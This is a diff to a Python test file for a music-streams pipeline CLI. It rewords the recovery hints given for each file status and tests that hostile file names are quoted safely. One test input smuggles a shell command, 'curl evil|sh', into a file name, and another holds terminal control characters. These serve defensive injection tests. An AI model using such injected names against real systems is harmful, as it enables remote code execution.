@@ -13,7 +13,7 @@ from music_streams.state.statuses import Status
 SOURCE = Source("landing", "incoming/a b.csv", "v1", 10, "2024-06-25T12:00:00.000Z")
 ID = SOURCE.source_id
 SONGS = "music-streams put SONGS.csv --reference songs"
-PUT = "fix the file, then: music-streams put FILE --key 'a b.csv'"
+PUT = "upload a fixed file: music-streams put FIXED.csv --key 'a b.csv'"
 LONG_AGO = "2024-06-25T12:00:00.000Z"
 
 
@@ -31,20 +31,20 @@ def entry(status: str, **more) -> Entry:
         (entry("QUARANTINED", reason="not_utf8"), [PUT]),
         (
             entry("QUARANTINED", reason="too_many_bad_rows"),
-            [PUT, f"or count its good rows as they are: music-streams quarantine release {ID}"],
+            [PUT, f"instead, if its valid rows are enough: music-streams quarantine release {ID}"],
         ),
         (
             entry("FAILED", reason="no_reference_data"),
             [f"put a songs file: music-streams put SONGS.csv --reference songs; then music-streams redrive {ID}"],
         ),
         (
-            entry("FAILED", reason="FAILED: it broke"),
-            [f"find the cause: music-streams logs --file {ID}", f"after fixing the cause: music-streams redrive {ID}"],
+            entry("FAILED", reason="States.TaskFailed: it broke"),
+            [f"log of the run: music-streams logs --file {ID}", f"after fixing the cause: music-streams redrive {ID}"],
         ),
         (entry("RUNNING", updated_at="2999-01-01T00:00:00.000Z"), ["music-streams status --watch"]),
         (
             entry("PUBLISHED"),
-            ["music-streams status --watch", f"if its execution has stopped: music-streams redrive {ID}"],
+            ["music-streams status --watch", f"if its status does not change: music-streams redrive {ID}"],
         ),
         (entry("ARCHIVED", rejected={"duplicate": 3}), []),
         (
@@ -53,7 +53,7 @@ def entry(status: str, **more) -> Entry:
         ),
         (
             entry("ARCHIVED", treatment=Treatment.RETRACT),
-            [f"if it does not become RETRACTED: music-streams redrive {ID}"],
+            [f"if its status is not RETRACTED after 5 minutes: music-streams redrive {ID}"],
         ),
         (entry("RETRACTED", treatment=Treatment.RETRACT), []),
     ],
@@ -75,11 +75,11 @@ def test_on_aws_the_step_is_the_history_of_the_execution():
 def test_a_file_whose_name_cannot_be_typed_needs_another_name():
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key="incoming/a\u202e\x1b[2J.csv"))
     [step, *_] = steps_for(hostile)
-    assert step == NextStep("fix the file and put it again under a printable name")
+    assert step == NextStep("upload a fixed file under a name without control characters")
 
 
 def test_a_name_with_spaces_and_quotes_is_one_argument_of_the_command():
     name = "x   '; curl evil|sh   '.csv"
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key=f"incoming/{name}"))
     [step] = steps_for(hostile)
-    assert shlex.split(step.command) == ["music-streams", "put", "FILE", "--key", name]
+    assert shlex.split(step.command) == ["music-streams", "put", "FIXED.csv", "--key", name]
